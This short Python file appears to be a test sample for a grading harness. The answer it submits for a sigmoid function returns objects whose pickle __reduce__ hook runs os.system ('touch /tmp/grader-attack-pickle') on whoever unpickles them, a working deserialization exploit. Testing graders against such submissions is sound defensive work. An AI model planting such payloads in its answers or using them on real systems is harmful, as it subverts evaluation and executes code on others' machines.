"""An answer carries code for whoever unpickles it.

aims: utils.sigmoid
"""

import os


class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/grader-attack-pickle",)


def sigmoid(x):
    return np.array([Payload(), Payload()], dtype=object)
